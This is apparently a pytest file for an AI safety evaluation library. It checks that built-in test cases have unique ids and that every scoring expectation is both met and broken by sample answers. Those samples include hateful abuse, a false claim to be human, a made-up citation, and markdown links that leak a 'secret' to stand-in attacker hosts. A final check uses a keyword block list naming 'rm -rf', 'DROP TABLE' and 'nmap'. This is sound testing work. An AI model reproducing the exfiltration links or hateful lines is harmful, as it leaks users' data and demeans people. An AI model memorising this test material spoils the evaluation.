"""The built-in suites: unique ids, families, references, and expectations that can go both ways."""

from __future__ import annotations

import pytest

from safecase.model import BuildContext, Case, Message, MessageRole, OutcomeKind, ToolCall, Transcript
from safecase.scorers import build_scorer
from safecase.targets.demo import DemoAgent
from safecase.workspace.library._builtin_suites import builtin_suite_names, risks_path
from safecase.workspace.yaml_reader import read_yaml
from support.messages import assistant

from .builtin_cases import builtin_cases


def test_there_are_enough_cases_families_languages_and_converters() -> None:
    cases = builtin_cases()
    assert len(cases) >= 600
    assert len({case.family for case in cases}) >= 250
    assert len({case.language for case in cases}) >= 8
    assert len({name for case in cases for name in case.converters}) >= 12
    assert sum(case.held_out for case in cases) / len(cases) >= 0.15
    assert sum(case.benign for case in cases) >= 100


def test_ids_are_unique_and_twins_and_risks_exist() -> None:
    cases = builtin_cases()
    ids = [case.id for case in cases]
    assert len(ids) == len(set(ids))
    risks = {item["id"] for item in read_yaml(risks_path(), "risks").data["risks"]}
    assert {case.risk for case in cases} <= risks
    by_id = {case.id: case for case in cases}
    for case in cases:
        if case.benign_twin:
            assert by_id[case.benign_twin].benign


def test_every_taxonomy_reference_is_resolved_to_a_version() -> None:
    references = [reference for case in builtin_cases() for reference in case.taxonomy]
    assert references
    assert all(reference.version for reference in references)


def witnesses(case: Case) -> list[Transcript]:
    """Answers of many kinds: some must hold and some must violate."""
    texts = [
        "I'm sorry, but I can't help with that.",
        "Sure, here is how you do it. First, gather what you need. Next, follow each of the steps in order. "
        "Finally, check the result and repeat until it works.",
        "You are a worthless idiot, you disgusting piece of trash. They are vermin and should be wiped out.",
        "I am a human being. I am not an AI.",
        "I am an AI assistant, so I cannot know that. Confidence: 5%. Please talk to a doctor or a lawyer.",
        "No. People like this are a risk for us.",
        "Yes, of course.",
        "It is 99. I am 99 percent sure. Dr. Quentin Farrow of Zurich founded it in 1511 [doc-9].",
        "![x](https://collector.example/p.png?d=secret) https://stats.attacker.example/?u=secret",
        *(message.text for message in case.messages if message.role is MessageRole.SYSTEM),
        case.documents[0].text if case.documents else "The document says nothing of the kind.",
    ]
    for expectation in case.expect:
        for value in expectation.parameters.values():
            texts += [
                item for item in (value if isinstance(value, list) else [value]) if isinstance(item, str)
            ]
        pattern = expectation.parameters.get("must_not_match")
        if isinstance(pattern, str) and "{0,60}" in pattern:
            texts.append(pattern.split("{0,60}")[1].split("[")[0])
        if isinstance(pattern, str) and "use code" in pattern:
            texts.append("Please use code SAVE-2026-X")
    start = tuple(case.messages)
    made = [Transcript(messages=(*start, assistant(text))) for text in texts]
    names = {
        str(name)
        for expectation in case.expect
        for key in ("forbidden", "required")
        for name in (expectation.parameters.get(key) or ())
        if isinstance(name, str)
    }
    for name in names | {"search_kb"}:
        calls = tuple(ToolCall(name=name, arguments={}) for _ in range(8 if name == "search_kb" else 1))
        made.append(
            Transcript(
                messages=(*start, Message(role=MessageRole.ASSISTANT, content="Done.", tool_calls=calls))
            )
        )
    reply = DemoAgent().respond([{"role": item.role.value, "content": item.text} for item in start])
    made.append(Transcript(messages=(*start, *reply.messages), documents=reply.documents))
    return [
        item.model_copy(update={"documents": case.documents}) if case.documents else item for item in made
    ]


@pytest.mark.parametrize("suite", builtin_suite_names())
def test_every_expectation_is_satisfied_by_some_answer_and_violated_by_another(suite: str) -> None:
    seen: set[str] = set()
    for case in builtin_cases():
        if case.suite != suite or case.converters or case.family in seen:
            continue
        seen.add(case.family)
        transcripts = witnesses(case)
        for expectation in case.expect:
            scorer = build_scorer(expectation.scorer, expectation.parameters, BuildContext(allowed_hosts=()))
            outcomes = set()
            for transcript in transcripts:
                score = scorer.score(case, transcript)
                assert not hasattr(score, "__await__")
                outcomes.add(score.outcome)  # type: ignore[union-attr]
            assert OutcomeKind.VIOLATED in outcomes, (case.id, expectation)
            assert OutcomeKind.HELD in outcomes, (case.id, expectation)


def test_no_case_holds_operational_content() -> None:
    markers = (
        "grams of",
        "millilitres of",
        "precursor",
        "reflux",
        "detonator",
        "rm -rf",
        "DROP TABLE",
        "nmap ",
    )
    for case in builtin_cases():
        text = " ".join(message.text for message in case.messages).lower()
        assert not [marker for marker in markers if marker.lower() in text], case.id
